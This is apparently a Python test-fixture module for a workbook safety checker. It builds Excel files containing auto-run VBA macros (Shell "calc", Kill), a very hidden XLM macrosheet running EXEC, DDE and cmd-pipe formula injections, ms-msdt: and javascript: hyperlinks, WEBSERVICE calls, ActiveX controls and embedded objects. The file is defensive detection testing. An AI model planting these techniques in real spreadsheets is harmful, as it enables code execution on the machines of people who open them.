"""Workbooks with what acts or leads out of them, put together from a clean one; each with what must be said of it."""

import tempfile
import zipfile
from collections.abc import Callable
from functools import cache
from pathlib import Path
from typing import NamedTuple

from pyopenvba import ExcelFile
from pyopenvba.vba import VBAModuleKind, VBAProject

from poa_xl.vba import project
from tests.packages import MAIN, RELATIONS, TASKS, Parts

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
_SPREADSHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml"
_SPACE = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
VBA = "application/vnd.ms-office.vbaProject"
ROOT = "_rels/.rels"
TASK_RELATIONS = "xl/worksheets/_rels/sheet3.xml.rels"
_EXTRA = ' xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'


class Case(NamedTuple):
    name: str
    make: Callable[[Parts], Parts]
    code: str
    words: tuple[str, ...]  # that the finding says
    gone: tuple[bytes, ...] = ()  # that a copy does not have, in any part nor as the name of one


CASES: list[Case] = []


def case(
    name: str, code: str, words: str | tuple[str, ...], *gone: bytes
) -> Callable[[Callable[[Parts], Parts]], None]:
    """A function that makes such a workbook of the parts of a clean one."""

    def add(make: Callable[[Parts], Parts]) -> None:
        CASES.append(Case(name, make, code, (words,) if isinstance(words, str) else words, gone))

    return add


def related(parts: Parts, source: str, type_: str, target: str, external: bool = False, identifier: str = "") -> Parts:
    """With a relation more."""
    identifier = identifier or f"rIdX{len(parts)}x{len(parts.get(source, b''))}"
    mode = ' TargetMode="External"' if external else ""
    line = f'<Relationship Id="{identifier}" Type="{type_}" Target="{target}"{mode}/></Relationships>'
    before = parts.get(source, f'<Relationships xmlns="{_PACKAGE}"></Relationships>'.encode())
    if before.rstrip().endswith(b"/>"):
        before = f'<Relationships xmlns="{_PACKAGE}"></Relationships>'.encode()
    return {**parts, source: before.replace(b"</Relationships>", line.encode())}


def typed(parts: Parts, part: str, type_: str) -> Parts:
    """With the type of a part (or of an ending, as `.bin`)."""
    line = f'<Default Extension="{part[1:]}" ContentType="{type_}"/>' if part.startswith(".") else ""
    line = line or f'<Override PartName="/{part}" ContentType="{type_}"/>'
    types = parts["[Content_Types].xml"].replace(b"</Types>", f"{line}</Types>".encode())
    return {**parts, "[Content_Types].xml": types}


def with_part(
    parts: Parts, part: str, content: bytes | str, type_: str, source: str, relation: str, identifier: str = ""
) -> Parts:
    """With a part, its type, and the relation that leads to it."""
    content = content.encode() if isinstance(content, str) else content
    made = {**parts, part: content}
    made = typed(made, part, type_) if type_ else made
    return related(made, source, relation, f"/{part}", identifier=identifier)


def in_sheet(parts: Parts, before: str, xml: str, sheet: str = TASKS) -> Parts:
    """With something in a sheet, before another element or the end."""
    place = f"<{before}" if f"<{before}".encode() in parts[sheet] else "</worksheet>"
    head, mark, tail = parts[sheet].partition(place.encode())
    assert mark
    return {**parts, sheet: head + xml.encode() + mark + tail}


def macro_enabled(parts: Parts) -> Parts:
    types = parts["[Content_Types].xml"]
    old, new = f"{_SPREADSHEET}.sheet.main+xml".encode(), b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    assert old in types
    return {**parts, "[Content_Types].xml": types.replace(old, new)}


# --- projects of macros -------------------------------------------------------------------------------------


@cache
def changed_project(change: Callable[[VBAProject], None]) -> bytes:
    """Our project, as if somebody had opened and changed it."""
    with tempfile.TemporaryDirectory() as folder:
        path, target = Path(folder) / "a.xlsm", Path(folder) / "b.xlsm"
        with zipfile.ZipFile(project.shipped(False)) as old, zipfile.ZipFile(path, "w") as new:
            for entry in old.infolist():
                ours = entry.filename == "xl/vbaProject.bin"
                new.writestr(entry, project.of_workbook(7) if ours else old.read(entry))
        with ExcelFile(path) as file:
            change(file.vba_project())
            file.save(target)
        with zipfile.ZipFile(target) as archive:
            return archive.read("xl/vbaProject.bin")


_EVIL = 'Sub Auto_Open()\r\n    Shell "calc"\r\nEnd Sub\r\n'


def foreign(found: VBAProject) -> None:
    found.add_module("Ladron", f'Attribute VB_Name = "Ladron"\r\n{_EVIL}')


def code_in_workbook(found: VBAProject) -> None:
    module = found.get_module("ThisWorkbook")
    module.body = module.body + 'Private Sub Workbook_Open()\r\n    Shell "calc"\r\nEnd Sub\r\n'


def code_in_sheet(found: VBAProject) -> None:
    module = found.get_module("Sheet3")
    module.body = module.body + 'Private Sub Worksheet_Activate()\r\n    Kill "a"\r\nEnd Sub\r\n'


def ours_with_other_code(found: VBAProject) -> None:
    module = found.get_module("poa_xl_macros")
    module.body = module.body + _EVIL


def ours_replaced(found: VBAProject) -> None:
    found.get_module("xlwings").body = _EVIL


def code_after_an_attribute(found: VBAProject) -> None:
    module = found.get_module("poa_xl_macros")
    module.source = module.source + 'Attribute VB_Name = "x": Shell "calc"\r\n'
    module.dirty = True


def a_class(found: VBAProject) -> None:
    found.add_module(
        "Clase1", 'Attribute VB_Name = "Clase1"\r\nPublic Sub A()\r\nEnd Sub\r\n', kind=VBAModuleKind.other
    )


def as_excel_saves_it(found: VBAProject) -> None:
    """Clean: capitals and indents are other, attributes came, and a line is blank."""
    module = found.get_module("poa_xl_macros")
    body = module.body.replace("Public Sub", "Public  sub").replace("RunPython", "runPython").replace("    ", "\t")
    module.body = body.replace("End Sub\r\n", "End Sub\r\n\r\n") + 'Attribute Validar.VB_Description = "Revisa"\r\n'
    module.dirty = True


for change, word in (
    (foreign, "Ladron"),
    (code_in_workbook, "ThisWorkbook"),
    (code_in_sheet, "Sheet3"),
    (ours_with_other_code, "poa_xl_macros"),
    (ours_replaced, "xlwings"),
    (code_after_an_attribute, "poa_xl_macros"),
    (a_class, "Clase1"),
):

    @case(f"macros: {change.__name__}", "LIB-013", (f"«{word}»", "xl/vbaProject.bin"), b"Shell", b"Ladron", b"Clase1")
    def _(parts: Parts, change: Callable[[VBAProject], None] = change) -> Parts:
        content = changed_project(change)
        return with_part(macro_enabled(parts), "xl/vbaProject.bin", content, VBA, RELATIONS, f"{MICROSOFT}/vbaProject")


@case("macros under another name", "LIB-013", ("«Ladron»", "xl/media/foto.png"), b"foto.png")
def _(parts: Parts) -> Parts:
    content = changed_project(foreign)
    return with_part(parts, "xl/media/foto.png", content, VBA, RELATIONS, f"{MICROSOFT}/vbaProject")


@case("macros that a sheet names", "LIB-013", "xl/extra.dat", b"extra.dat")
def _(parts: Parts) -> Parts:
    content = changed_project(foreign)
    return with_part(parts, "xl/extra.dat", content, "", TASK_RELATIONS, f"{MICROSOFT}/vbaProject")


@case("macros that only their type gives away", "LIB-013", "xl/suelto.bin", b"suelto.bin", VBA.encode())
def _(parts: Parts) -> Parts:
    return typed({**parts, "xl/suelto.bin": changed_project(foreign)}, "xl/suelto.bin", VBA)


@case("macros by the type of their ending", "LIB-013", "xl/otro.bin", b"otro.bin", VBA.encode())
def _(parts: Parts) -> Parts:
    return typed({**parts, "xl/otro.bin": changed_project(foreign)}, ".bin", VBA)


@case("macros that cannot be read", "LIB-013", "no se puede leer", b"vbaProject.bin")
def _(parts: Parts) -> Parts:
    content = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(3000)
    return with_part(macro_enabled(parts), "xl/vbaProject.bin", content, VBA, RELATIONS, f"{MICROSOFT}/vbaProject")


@case("a signature of macros", "LIB-013", "firma", b"Signature")
def _(parts: Parts) -> Parts:
    content = project.of_workbook(7)
    made = with_part(macro_enabled(parts), "xl/vbaProject.bin", content, VBA, RELATIONS, f"{MICROSOFT}/vbaProject")
    return with_part(
        made, "xl/vbaProjectSignature.bin", b"firma", f"{VBA}Signature", "xl/_rels/vbaProject.bin.rels",
        f"{MICROSOFT}/vbaProjectSignature",
    )  # fmt: skip


def _macro_sheet(kind: str, content_type: str, element: str = "xm:macrosheet") -> Callable[[Parts], Parts]:
    def make(parts: Parts) -> Parts:
        xml = (
            f'<{element} xmlns="{_SPACE}" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData>'
            f'<row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row></sheetData></{element}>'
        )
        part = "xl/macrosheets/hoja.xml"
        made = with_part(parts, part, xml, content_type, RELATIONS, kind, identifier="rIdMacro")
        main = made[MAIN].replace(
            b"</sheets>",
            f'<sheet{_EXTRA} name="Macro1" sheetId="90" state="veryHidden" r:id="rIdMacro"/></sheets>'.encode(),
        )
        names = '<definedNames><definedName name="_xlnm.Auto_Open" xlm="1">Macro1!$A$1</definedName></definedNames>'
        if b"<definedNames" not in main:
            main = main.replace(b"</sheets>", f"</sheets>{names}".encode())
        return {**made, MAIN: main}

    return make


for name, kind, type_, element in (
    ("a sheet of macros", f"{MICROSOFT}/xlMacrosheet", "application/vnd.ms-excel.macrosheet+xml", "xm:macrosheet"),
    ("an international sheet of macros", f"{MICROSOFT}/xlIntlMacrosheet", "application/vnd.ms-excel.intlmacrosheet+xml",
     "xm:macrosheet"),
    ("a sheet of a dialogue", f"{OFFICE}/dialogsheet", f"{_SPREADSHEET}.dialogsheet+xml", "dialogsheet"),
):  # fmt: skip
    CASES.append(Case(name, _macro_sheet(kind, type_, element), "LIB-013", ("«Macro1»",), (b"EXEC", b"macrosheet")))


# --- links --------------------------------------------------------------------------------------------------


def linked(parts: Parts, content: str, relation: tuple[str, str] | None = None) -> Parts:
    """With a link to another file or program, and a formula that uses it."""
    part = "xl/externalLinks/externalLink1.xml"
    made = with_part(
        parts, part, content, f"{_SPREADSHEET}.externalLink+xml", RELATIONS, f"{OFFICE}/externalLink", "rIdLink"
    )
    if relation:
        made = related(made, "xl/externalLinks/_rels/externalLink1.xml.rels", *relation, True, "rId1")
    listed = f'<externalReferences><externalReference{_EXTRA} r:id="rIdLink"/></externalReferences>'
    before = b"<definedNames" if b"<definedNames" in made[MAIN] else b"<calcPr"
    assert before in made[MAIN]
    made = {**made, MAIN: made[MAIN].replace(before, listed.encode() + before)}
    row = '<row r="90"><c r="Z90"><f>[1]!\'x\'</f><v>7</v></c></row>'
    return {**made, TASKS: made[TASKS].replace(b"</sheetData>", f"{row}</sheetData>".encode())}


def book(target: str, type_: str = f"{OFFICE}/externalLinkPath") -> Callable[[Parts], Parts]:
    xml = f'<externalLink xmlns="{_SPACE}"><externalBook{_EXTRA} r:id="rId1"><sheetNames><sheetName val="a"/></sheetNames></externalBook></externalLink>'
    return lambda parts: linked(parts, xml, (type_, target))


for name, target in (
    ("another workbook", "file:///C:/otro.xlsx"),
    ("our add-in in the web", "https://ejemplo.bo/poa_xl.xlam"),
    ("our add-in in a network", "\\\\servidor\\c\\poa_xl.xlam"),
    ("our add-in in a network as a file", "file://servidor/c/poa_xl.xlam"),
    ("our add-in in a network with three strokes", "file:///\\\\servidor\\c\\poa_xl.xlam"),
    ("our add-in in a network, encoded", "file:///%5C%5Cservidor%5Cc%5Cpoa_xl.xlam"),
    ("our add-in beside the workbook", "poa_xl.xlam"),
    ("our add-in in a folder beside it", "../poa_xl.xlam"),
    ("a name that ends like our add-in", "file:///C:/otro_poa_xl.xlam"),
):
    CASES.append(Case(f"a link to {name}", book(target), "LIB-014", (target,)))
CASES.append(
    Case("an add-in in no folder of Excel", book("http://x/poa_xl.xlam", f"{MICROSOFT}/xlExternalLinkPath/xlStartup"),
         "LIB-014", ("http://x/poa_xl.xlam",))
)  # fmt: skip


@case("a DDE link", "LIB-020", "cmd|/c calc", b"ddeLink", b"/c calc")
def _(parts: Parts) -> Parts:
    item = '<ddeItems><ddeItem name="A0" advise="1"/></ddeItems>'
    dde = f'<ddeLink ddeService="cmd" ddeTopic="/c calc">{item}</ddeLink>'
    return linked(parts, f'<externalLink xmlns="{_SPACE}">{dde}</externalLink>')


@case("an OLE link", "LIB-020", "Word.Document", b"oleLink", b"Word.Document")
def _(parts: Parts) -> Parts:
    ole = f'<oleLink{_EXTRA} r:id="rId1" progId="Word.Document.12"><oleItems><oleItem name="a"/></oleItems></oleLink>'
    xml = f'<externalLink xmlns="{_SPACE}">{ole}</externalLink>'
    return linked(parts, xml, (f"{OFFICE}/oleObject", "file:///C:/a.docx"))


@case("a picture from the web", "LIB-014", ("http://x/a.png", "Tareas"))
def _(parts: Parts) -> Parts:
    drawing = '<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"/>'
    kind = "application/vnd.openxmlformats-officedocument.drawing+xml"
    made = with_part(parts, "xl/drawings/d9.xml", drawing, kind, TASK_RELATIONS, f"{OFFICE}/drawing", "rIdD")
    made = related(made, "xl/drawings/_rels/d9.xml.rels", f"{OFFICE}/image", "http://x/a.png", external=True)
    return in_sheet(made, "legacyDrawing", f'<drawing{_EXTRA} r:id="rIdD"/>')


for target in ("javascript:alert(1)", "ms-msdt:/id x", "\\\\servidor\\x.xlsx", "file://servidor/x.xlsx"):

    @case(f"a hyperlink to {target}", "LIB-014", (target, "Tareas"))
    def _(parts: Parts, target: str = target) -> Parts:
        made = related(parts, TASK_RELATIONS, f"{OFFICE}/hyperlink", target, external=True, identifier="rIdH")
        return in_sheet(made, "pageMargins", f'<hyperlinks><hyperlink{_EXTRA} ref="A9" r:id="rIdH"/></hyperlinks>')


# --- formulas -----------------------------------------------------------------------------------------------

for formula, reached in (
    ("WEBSERVICE(&quot;http://x/&quot;&amp;A1)", b"WEBSERVICE"),
    ("_xlfn.WEBSERVICE(A1)", b"WEBSERVICE"),
    ("_xlfn.FILTERXML(A1,A2)", b"FILTERXML"),
    ("IF(1,webservice (A1))", b"webservice"),
    ("&#87;EBSERVICE(A1)", b"EBSERVICE"),
    ("<![CDATA[WEBSERVICE(A1)]]>", b"WEBSERVICE"),
    ("_xlfn.IMAGE(A1)", b"IMAGE"),
    ("_xlfn._xlws.PY(0,0,A1)", b"PY("),
    ("WEB<!-- -->SERVICE(A1)", b"SERVICE"),
    ("CALL(&quot;user32&quot;,&quot;MessageBoxA&quot;)", b"CALL"),
    ("REGISTER.ID(&quot;a&quot;,&quot;b&quot;)", b"REGISTER"),
    ("EXEC(&quot;calc&quot;)", b"EXEC"),
    ("RTD(&quot;a&quot;,,&quot;b&quot;)", b"RTD"),
    ("DDE(&quot;soffice&quot;,A1,A2)", b"DDE("),
    ("cmd|'/c calc'!A0", b"cmd"),
    ("'cmd'|'/c calc'!A0", b"cmd"),
    ("'cmd|/c calc'!A0", b"cmd"),
    ("1+MSEXCEL|'\\..\\..\\cmd.exe /c calc'!_xlbgnm.A1", b"MSEXCEL"),
):

    @case(f"the formula {formula}", "LIB-020", "Tareas!Z91", reached)
    def _(parts: Parts, formula: str = formula) -> Parts:
        row = f'<row r="91"><c r="Z91"><f>{formula}</f><v>7</v></c></row>'
        return {**parts, TASKS: parts[TASKS].replace(b"</sheetData>", f"{row}</sheetData>".encode())}


@case("a name for a formula that reaches out", "LIB-020", "=CALL(", b"CALL(")
def _(parts: Parts) -> Parts:
    names = '<definedNames><definedName name="nada">CALL("a","b")</definedName></definedNames>'
    main = parts[MAIN].replace(b"<definedNames />", b"").replace(b"<definedNames/>", b"")
    assert b"<definedNames" not in main
    return {**parts, MAIN: main.replace(b"</sheets>", b"</sheets>" + names.encode())}


@case("a format with a formula that reaches out", "LIB-020", "WEBSERVICE", b"WEBSERVICE")
def _(parts: Parts) -> Parts:
    rule = '<cfRule type="expression" priority="900"><formula>WEBSERVICE("http://x")=1</formula></cfRule>'
    return in_sheet(parts, "pageMargins", f'<conditionalFormatting sqref="Z9">{rule}</conditionalFormatting>')


# --- what acts ----------------------------------------------------------------------------------------------


@case("a connection", "LIB-020", "Consulta1", b"connections", b"http://x")
def _(parts: Parts) -> Parts:
    web = '<webPr url="http://x" xml="1"/>'
    one = f'<connection id="1" name="Consulta1" type="4" refreshedVersion="6" refreshOnLoad="1">{web}</connection>'
    xml = f'<connections xmlns="{_SPACE}">{one}</connections>'
    return with_part(
        parts, "xl/conexiones.xml", xml, f"{_SPREADSHEET}.connections+xml", RELATIONS, f"{STRICT}/connections"
    )


@case("a query", "LIB-020", ("tabla9.xml", "Tareas"), b"queryTable")
def _(parts: Parts) -> Parts:
    xml = f'<queryTable xmlns="{_SPACE}" name="q" connectionId="1"/>'
    kind = f"{_SPREADSHEET}.queryTable+xml"
    return with_part(parts, "xl/tabla9.xml", xml, kind, TASK_RELATIONS, f"{OFFICE}/queryTable")


@case("data in real time", "LIB-020", "tiempo", b"volTypes")
def _(parts: Parts) -> Parts:
    xml = f'<volTypes xmlns="{_SPACE}"><volType type="realTimeData"/></volTypes>'
    kind = f"{_SPREADSHEET}.volatileDependencies+xml"
    return with_part(parts, "xl/tiempo.xml", xml, kind, RELATIONS, f"{OFFICE}/volatileDependencies")


@case("an ActiveX control", "LIB-020", ("activeX1.xml", "Tareas"), b"activeX", b"<control", b"AlternateContent")
def _(parts: Parts) -> Parts:
    xml = (
        '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
        'ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStreamInit"/>'
    )
    kind, binary = "application/vnd.ms-office.activeX", "xl/activeX/activeX1.bin"
    made = with_part(parts, "xl/activeX/activeX1.xml", xml, f"{kind}+xml", TASK_RELATIONS, f"{OFFICE}/control", "rIdA")
    made = with_part(
        made, binary, b"x", kind, "xl/activeX/_rels/activeX1.xml.rels", f"{MICROSOFT}/activeXControlBinary"
    )
    one = f'<control{_EXTRA} shapeId="1025" r:id="rIdA" name="B1"/>'
    mc = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
    inner = f'<mc:AlternateContent {mc}><mc:Choice Requires="x14">{one}</mc:Choice><mc:Fallback>{one}</mc:Fallback></mc:AlternateContent>'
    outer = f'<mc:AlternateContent {mc}><mc:Choice Requires="x14"><controls>{inner}</controls></mc:Choice></mc:AlternateContent>'
    space = 'xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"'
    return in_sheet(made, "tableParts", outer.replace("<mc:Alter", "<mc:Alter", 1).replace(mc, f"{mc} {space}", 1))


for number, kind in enumerate(
    (f"{MICROSOFT}/ui/extensibility", "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility",
     f"{MICROSOFT}/ui/userCustomization")
):  # fmt: skip

    @case(f"a ribbon ({number})", "LIB-020", "cinta.xml", b"customUI", b"onLoad")
    def _(parts: Parts, kind: str = kind) -> Parts:
        xml = '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="x"/>'
        return with_part(parts, "otra/cinta.xml", xml, "application/xml", ROOT, kind)


@case("a web add-in", "LIB-020", "panel.xml", b"webextension", b"https://x")
def _(parts: Parts) -> Parts:
    base = "http://schemas.microsoft.com/office/2011/relationships"
    kind = "application/vnd.ms-office.webextension"
    we = "http://schemas.microsoft.com/office/webextensions"
    panes = (
        f'<wetp:taskpanes xmlns:wetp="{we}/taskpanes/2010/11"><wetp:taskpane dockstate="right" visibility="1" width="9" '
        f'row="1"><wetp:webextensionref{_EXTRA} r:id="rIdW"/></wetp:taskpane></wetp:taskpanes>'
    )
    extension = f'<we:webextension xmlns:we="{we}/webextension/2010/11" id="https://x"/>'
    made = with_part(
        parts, "xl/webextensions/panel.xml", panes, f"{kind}taskpanes+xml", ROOT, f"{base}/webextensiontaskpanes"
    )
    return with_part(
        made, "xl/webextensions/uno.xml", extension, f"{kind}+xml", "xl/webextensions/_rels/panel.xml.rels",
        f"{base}/webextension", "rIdW",
    )  # fmt: skip


@case("bars of tools", "LIB-020", "barras.bin", b"barras.bin", b"attachedToolbars")
def _(parts: Parts) -> Parts:
    kind = "application/vnd.ms-excel.attachedToolbars"
    return with_part(parts, "xl/barras.bin", b"x", kind, RELATIONS, f"{MICROSOFT}/attachedToolbars")


@case("a document inside", "LIB-021", ("carta.docx", "Tareas"))
def _(parts: Parts) -> Parts:
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    made = with_part(parts, "xl/embeddings/carta.docx", b"PK", kind, TASK_RELATIONS, f"{OFFICE}/package", "rIdE")
    xml = f'<oleObjects><oleObject{_EXTRA} progId="Word.Document.12" shapeId="1026" r:id="rIdE"/></oleObjects>'
    return in_sheet(made, "tableParts", xml)


@case("an object of a program inside", "LIB-021", ("objeto.bin", "Tareas"))
def _(parts: Parts) -> Parts:
    kind = "application/vnd.openxmlformats-officedocument.oleObject"
    made = with_part(parts, "xl/embeddings/objeto.bin", b"x", kind, TASK_RELATIONS, f"{OFFICE}/oleObject", "rIdE")
    xml = f'<oleObjects><oleObject{_EXTRA} progId="Package" shapeId="1026" r:id="rIdE"/></oleObjects>'
    return in_sheet(made, "tableParts", xml)
